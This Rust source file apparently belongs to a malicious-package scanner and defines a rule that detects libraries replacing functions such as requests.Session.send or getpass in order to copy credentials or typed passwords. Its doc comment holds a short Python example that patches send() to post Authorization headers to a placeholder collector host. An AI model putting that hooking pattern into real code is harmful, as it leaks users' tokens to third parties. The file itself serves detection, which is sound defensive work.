//! # It replaces a function of another library and sends what passes through
//!
//! ## What it finds
//! A function of another library, of the language or of the page (`requests.Session.send`, `getpass.getpass`, `fetch`,
//! `http.request`) is replaced by one of the package's own, and what callers hand to it goes to a constant address that the
//! callers did not choose; or what people type goes into a file. The same for functions that a client of the network calls with
//! every request or answer: `session.hooks["response"]`, the `send` of a subclass of `requests.Session`,
//! `axios.interceptors.request.use`.
//!
//! ## Why it matters
//! The package waits in the process of whoever imports it and sees every request, with its tokens, and every password. Nothing
//! is read from disk or the environment. Packages that hooked `requests` and `http` to copy authorization headers were found
//! on PyPI and npm in 2024 and 2025; card skimmers in pages work alike.
//!
//! ## Example
//! ```python
//! original = requests.Session.send
//!
//! def send(self, request, **options):
//!     post("https://collect.example.invalid/t", data=request.headers.get("Authorization"))
//!     return original(self, request, **options)
//!
//! requests.Session.send = send
//! ```
//!
//! ## What to do
//! Do not install. If it was installed, rotate what passed through the process: tokens of all services that it talked to.
//!
//! ## When it is wrong
//! Instrumentation (tracing, error reports, recorders for tests) replaces functions as well. It sends to where its user tells it,
//! which is not reported; nor is the call of the original with what it was given.
use foretaste_engine::prelude::*;

use crate::indicators;

declare_rule! {
    ReplacedFunction,
    id: "replaced-function",
    title: "replaces a library's function and sends what passes through",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1056.004", "T1185", "T1557"],
    since: "0.1.0",
}

impl ChainRule for ReplacedFunction {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        if source.capability != Capability::CodeIntercept || chain.flow.link == FlowLink::Scope {
            return None;
        }
        // what a package makes of its own modules, or notes on somebody's, replaces nothing
        let (root, name) = source.api.split_once('.').unwrap_or((&source.api, ""));
        let own = chain.file.path().split('/').any(|part| part == root);
        // (the loader of Node.js is private by its name alone)
        let noted = name.starts_with('_') && !name.starts_with("__") && name != "_load";
        if own || noted {
            return None;
        }
        // whatever stands in a chain of blocks, all the world reads
        let far = sink.api.ends_with("send_raw_transaction")
            || sink.constant.as_deref().is_some_and(indicators::is_far);
        // the original gets what it was given, perhaps with more; another request through it is another encoding, or goes to
        // an address that stands in the code
        let elsewhere = far && !sink.constant.as_deref().is_some_and(has_hole);
        let is_original =
            sink.api == source.api && chain.transforms().next().is_none() && !elsewhere;
        let what = match sink.capability {
            c if c.is_network_sink() && far && !is_original => "sends what passes through",
            c if c.is_network_sink() && sink.api == source.api && !is_original => {
                "sends what passes through, encoded,"
            }
            Capability::FileWrite if asks_people(&source.api) => {
                "writes what people type to a file"
            }
            _ => return None,
        };
        let context = chain.context();
        // functions that a client of the network calls by itself with every request or answer
        let is_hook = matches!(&*source.api, "requests.hooks" | "axios.interceptors")
            || source.api.starts_with("FetchEvent.");
        let how = if is_hook { "hooks into" } else { "replaces" };
        let mut finding = self
            .finding(format!(
                "{how} {} and {what} {}",
                source.api,
                context.phrase()
            ))
            .context(context);
        if !far {
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
        }
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}

/// True for an address of which a part is not known: perhaps it is the one that was asked for.
fn has_hole(address: &str) -> bool {
    address.contains(['{', '…'])
}

/// True for functions that ask a person for something.
fn asks_people(api: &str) -> bool {
    matches!(
        api,
        "getpass.getpass" | "input" | "builtins.input" | "click.prompt" | "readline.question"
    )
}
